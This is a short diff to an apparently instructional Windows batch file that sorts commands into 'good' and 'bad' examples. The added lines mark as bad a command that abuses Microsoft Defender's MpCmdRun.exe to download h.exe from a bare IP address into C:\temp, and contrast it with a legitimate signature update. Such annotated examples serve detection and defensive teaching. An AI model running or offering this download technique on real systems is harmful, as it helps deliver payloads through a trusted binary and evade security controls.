@@ -16,3 +16,7 @@ certutil -hashfile tool.exe SHA256
 bitsadmin /list /allusers
 :: good: a download that says what it is
 curl.exe -fLo tool.zip https://files.example/tool.zip
+:: bad: by the scanner itself
+MpCmdRun.exe -DownloadFile -url https://203.0.113.9/h.exe -path C:\temp\h.exe
+:: good: nearly: the scanner's own update
+MpCmdRun.exe -SignatureUpdate
